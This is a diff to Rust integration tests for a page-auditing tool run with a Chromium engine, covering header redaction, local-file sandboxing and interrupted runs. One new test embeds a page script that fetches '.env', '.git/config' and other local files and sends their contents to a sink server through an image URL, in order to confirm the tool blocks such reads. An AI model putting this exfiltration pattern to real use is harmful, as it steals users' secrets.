@@ -220,9 +220,11 @@ fn the_browser_applies_device_user_agent_and_headers() {
             .find(|h| h["name"] == n)
             .map(|h| h["value"].clone())
     };
+    // The header the user added is recorded, its value redacted as every -H header's is
+    // (one policy for every output: the server saw "yes", above).
     assert_eq!(
         header(&doc["request_headers"], "x-test"),
-        Some("yes".into()),
+        Some("[redacted]".into()),
         "{doc}"
     );
     assert_eq!(
@@ -1457,4 +1459,147 @@ for port in sys.argv[1:]:
         String::from_utf8_lossy(&out.stderr)
     );
     String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// A local page audited with the browser cannot read its folder: its scripts' fetches of a
+/// dotfile, a file beside it and files in sub-folders (one in a dot folder) get nothing of
+/// them, while what the page references loads; the load says what was served. A folder
+/// target serves the folder the user named, its dotfiles still never (the files beside the
+/// page are readable there, which also shows that the test sees a leak).
+#[test]
+fn a_local_page_cannot_read_its_folder_with_the_browser() {
+    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|p| p.into_inner());
+    if !browser_available() {
+        return;
+    }
+    let sink = TestServer::start(vec![("/leak", Route::ok("image/gif", ""))]);
+    let dir = tempfile::tempdir().unwrap();
+    let page = format!(
+        "<img src=ok.png><script>\
+         for (const f of ['.env', 'secret.txt', 'sub/.git/config', 'sub/other.txt']) {{\
+           fetch(f).then(r => r.text()).then(t => {{\
+             new Image().src = '{}?' + encodeURIComponent(f + '=' + t.slice(0, 40)); }});\
+         }}</script>",
+        sink.url("/leak")
+    );
+    std::fs::create_dir_all(dir.path().join("sub/.git")).unwrap();
+    for (name, body) in [
+        ("page.html", page.as_str()),
+        ("index.html", page.as_str()),
+        (".env", "TOKEN=SECRET_ENV"),
+        ("secret.txt", "SECRET_TXT"),
+        ("sub/.git/config", "SECRET_GIT"),
+        ("sub/other.txt", "SECRET_OTHER"),
+        ("ok.png", "not really a png"),
+    ] {
+        std::fs::write(dir.path().join(name), body).unwrap();
+    }
+    let leaked = |target: &str| {
+        let before = sink.paths().len();
+        let load = audit_json(&[target, "--engine", "chromium"]);
+        let paths = sink.paths()[before..].join(" ");
+        let got = percent_encoding::percent_decode_str(&paths)
+            .decode_utf8_lossy()
+            .into_owned();
+        assert_eq!(by_path(&load, "/ok.png")["status"], 200, "{target}");
+        (got, notes(&load))
+    };
+    let file = dir.path().join("page.html");
+    let (got, said) = leaked(file.to_str().unwrap());
+    assert!(got.contains(".env="), "the page ran its fetches: {got}");
+    for secret in ["SECRET_ENV", "SECRET_TXT", "SECRET_GIT", "SECRET_OTHER"] {
+        assert!(
+            !got.contains(secret),
+            "{secret} read by a local page: {got}"
+        );
+    }
+    assert!(
+        said.contains("served only this page and the 1 local file it references"),
+        "{said}"
+    );
+    let folder = format!("{}/", dir.path().display());
+    let (got, said) = leaked(&folder);
+    assert!(
+        got.contains("SECRET_TXT") && got.contains("SECRET_OTHER"),
+        "{got}"
+    );
+    assert!(
+        !got.contains("SECRET_ENV") && !got.contains("SECRET_GIT"),
+        "{got}"
+    );
+    assert!(said.contains("dotfiles are never served"), "{said}");
+}
+
+/// Stopped mid-batch (Ctrl-C) or mid-audit (SIGTERM), the browser engine loses nothing that
+/// finished: the batch's finished page and the cut one (partial) are on stdout as JSON
+/// lines, a single audit's partial report is written, and pagecost exits 130 or 143.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_stopped_browser_batch_or_audit_keeps_what_finished() {
+    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|p| p.into_inner());
+    if !browser_available() {
+        return;
+    }
+    let server = TestServer::start(vec![
+        ("/quick", Route::html("<p>quick</p>")),
+        ("/", Route::html("<p>slow</p><img src=/hang.png>")),
+        (
+            "/hang.png",
+            Route::ok("image/png", "").action(support::Action::Hang),
+        ),
+    ]);
+    let (quick, hang) = (server.url("/quick"), server.url("/"));
+    let batch = ["audit", &quick, &hang, "--jobs", "2", "--format", "jsonl"];
+    let audit = ["audit", &hang, "--format", "json"];
+    for (args, sig, code) in [(&batch[..], "-INT", 130), (&audit[..], "-TERM", 143)] {
+        let tmp = tempfile::tempdir().unwrap();
+        let seen = server.paths().len();
+        let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
+            .env("TMPDIR", tmp.path())
+            .args(args)
+            .args(["--engine", "chromium", "-q"])
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
+        let mut first = String::new();
+        if args == batch {
+            // The quick page's line comes as soon as it finished, before any signal.
+            std::io::BufRead::read_line(&mut stdout, &mut first).unwrap();
+            assert!(first.contains("/quick"), "{first}");
+        }
+        let t = std::time::Instant::now();
+        while !server.paths()[seen..].iter().any(|x| x == "/hang.png") {
+            assert!(t.elapsed().as_secs() < 30, "{args:?}: never loaded");
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(300));
+        signal(&child, sig);
+        let mut rest = String::new();
+        std::io::Read::read_to_string(&mut stdout, &mut rest).unwrap();
+        let stdout = first + &rest;
+        let out = child.wait_with_output().unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(code), "{args:?}: {err}");
+        let loads: Vec<Value> = if args == batch {
+            let lines: Vec<Value> = (stdout.lines())
+                .map(|l| serde_json::from_str(l).unwrap())
+                .collect();
+            assert_eq!(lines.len(), 2, "{stdout}");
+            assert_eq!(
+                lines[0]["load"]["partial"], false,
+                "the quick page finished"
+            );
+            lines
+                .into_iter()
+                .skip(1)
+                .map(|l| l["load"].clone())
+                .collect()
+        } else {
+            vec![serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {err}"))]
+        };
+        assert_eq!(loads[0]["partial"], true, "{args:?}");
+        assert!(err.contains("interrupted"), "{err}");
+    }
 }
